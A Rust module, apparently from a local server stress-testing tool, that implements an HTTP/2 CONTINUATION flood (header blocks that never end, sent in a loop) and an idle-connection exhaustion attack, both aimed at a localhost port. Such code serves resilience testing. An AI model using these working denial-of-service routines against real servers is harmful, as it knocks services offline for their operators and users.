//! HTTP/2 frames that no library would send: heads that never end.
//!
//! Not for: anything that has to read what the server says.
//! Called by: `attacks`.

use crate::attacks::Attack;
use bytes::{BufMut, Bytes, BytesMut};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const CONTINUATION: u8 = 9;

fn frame(out: &mut BytesMut, kind: u8, stream: u32, payload: &[u8]) {
    out.put_uint(payload.len() as u64, 3);
    out.put_u8(kind);
    out.put_u8(0);
    out.put_u32(stream);
    out.put_slice(payload);
}

/// The start of a head, and what goes on with it: one literal field after another, never indexed.
fn endless() -> (Bytes, Bytes) {
    let mut literal = BytesMut::new();
    literal.put_slice(b"\0\x08x-endles\x7f\x49");
    literal.put_bytes(b'e', 200);
    let mut part = BytesMut::new();
    for _ in 0..16384 / literal.len() {
        part.put_slice(&literal);
    }
    let (mut start, mut more) = (BytesMut::new(), BytesMut::new());
    start.put_slice(PREFACE);
    frame(&mut start, SETTINGS, 0, b"");
    frame(&mut start, HEADERS, 1, &part);
    frame(&mut more, CONTINUATION, 1, &part);
    (start.freeze(), more.freeze())
}

/// Heads that never end, on one connection after another.
pub async fn continuations(attack: Attack) {
    let (start, more) = endless();
    loop {
        let one = async {
            let (mut from, mut to) = TcpStream::connect(("127.0.0.1", attack.port))
                .await?
                .into_split();
            let reads = async {
                let mut bytes = [0; 4096];
                while from.read(&mut bytes).await? > 0 {}
                std::io::Result::Err(std::io::ErrorKind::ConnectionReset.into())
            };
            let writes = async {
                to.write_all(&start).await?;
                loop {
                    to.write_all(&more).await?;
                    tokio::task::yield_now().await;
                }
            };
            tokio::select! { ended = reads => ended, ended = writes => ended }
        };
        let ended: std::io::Result<()> = one.await;
        attack.saw(ended.map_or_else(|e| e.kind().to_string(), |()| "ended".into()));
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}

/// `count` connections that say nothing.
pub async fn silent(attack: Attack, count: usize) {
    let mut open = vec![];
    for _ in 0..count {
        match TcpStream::connect(("127.0.0.1", attack.port)).await {
            Ok(tcp) => open.push(tcp),
            Err(error) => attack.saw(error.kind().to_string()),
        }
    }
    attack.saw("connections".into());
    std::future::pending::<()>().await;
}
